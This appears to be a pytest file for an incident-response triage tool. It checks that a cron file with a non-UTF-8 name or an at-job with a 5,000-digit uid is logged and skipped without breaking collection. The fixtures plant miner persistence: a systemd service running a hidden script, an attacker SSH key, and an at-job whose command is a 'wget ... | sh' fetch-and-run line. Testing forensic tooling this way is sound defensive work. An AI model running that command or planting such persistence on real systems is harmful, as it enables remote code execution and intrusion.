"""Issue 10 point 3: one bad name or one bad record never disables a collector or a hunt.

Real triages of fixture roots (no mocks): the attack is planted beside a miner's cron and
dropper, and what the clean twin finds must still be found.
"""

import subprocess
from collections.abc import Callable
from pathlib import Path

from tests.hostile.items_helpers import (
    BAD_NAME,
    WALLET,
    bundle_json,
    bundle_lines,
    iocs,
    json_report,
    miner_root,
    plant_bytes_name,
    serious,
    triage_args,
)
from tests.persistence_fixture import AT_JOB, KEY

RunIrkit = Callable[..., subprocess.CompletedProcess[bytes]]


def test_a_cron_file_named_with_a_non_utf8_byte_hides_nothing(
    tmp_path: Path, run_irkit: RunIrkit
) -> None:
    plain = miner_root(tmp_path / "plain")
    attacked = miner_root(tmp_path / "attacked")
    plant_bytes_name(attacked, BAD_NAME, b"@reboot root /bin/true\n")

    before = run_irkit(*triage_args(plain, tmp_path / "plain.zip"))
    after = run_irkit(*triage_args(attacked, tmp_path / "attacked.zip"))

    assert before.returncode == 1, before.stderr.decode()
    assert after.returncode == 1, after.stderr.decode()
    found, still = json_report(before), json_report(after)
    assert serious(found), "the fixture must give high or critical findings"
    assert serious(still) == serious(found)
    assert ("wallet", WALLET) in iocs(found)
    assert iocs(found) <= iocs(still)
    assert still["verdict"]["verdict"] == found["verdict"]["verdict"]
    hunts = [e for e in bundle_lines(tmp_path / "attacked.zip", "collection.log")
             if e["collector"].startswith("hunt:")]  # fmt: skip
    assert not [e for e in hunts if e["outcome"] == "error"], hunts
    sources = {r["source"] for r in bundle_lines(tmp_path / "attacked.zip",
                                                 "records/persistence.jsonl")}  # fmt: skip
    assert "/etc/cron.d/job\udcff" in sources


def test_a_5000_digit_uid_in_one_at_job_is_one_logged_skip(
    tmp_path: Path, run_irkit: RunIrkit
) -> None:
    root = miner_root(tmp_path / "root")
    bad_job = AT_JOB.replace("uid=1000", "uid=" + "9" * 5000)
    files = {
        "var/spool/cron/atjobs/a0000101a2b3c4": bad_job,
        "etc/systemd/system/helper.service": "[Service]\nExecStart=/opt/.x/start.sh\n",
        "root/.ssh/authorized_keys": f"ssh-ed25519 {KEY} attacker\n",
    }
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    out = tmp_path / "case.zip"

    proc = run_irkit(*triage_args(root, out))

    assert proc.returncode == 1, proc.stderr.decode()
    assert bundle_json(out, "manifest.json")["complete"] is True
    records = bundle_lines(out, "records/persistence.jsonl")
    mechanisms = {r["mechanism"] for r in records}
    assert {"systemd", "authorized_keys", "cron"} <= mechanisms
    at = [r for r in records if r["mechanism"] == "at"]
    assert [r["command"] for r in at] == ["wget -q -O- http://203.0.113.9/s.sh | sh"]
    assert at[0]["detail"]["uid"] is None
    log = bundle_lines(out, "collection.log")
    skips = [e for e in log if e["detail"].get("path") == "/var/spool/cron/atjobs/a0000101a2b3c4"
             and e["step"] == "parse"]  # fmt: skip
    assert [(e["detail"]["line"], e["error"][:16]) for e in skips] == [(2, "uid not a number")]
    assert not [e for e in log if e["step"] == "collector-end" and e["outcome"] == "error"]
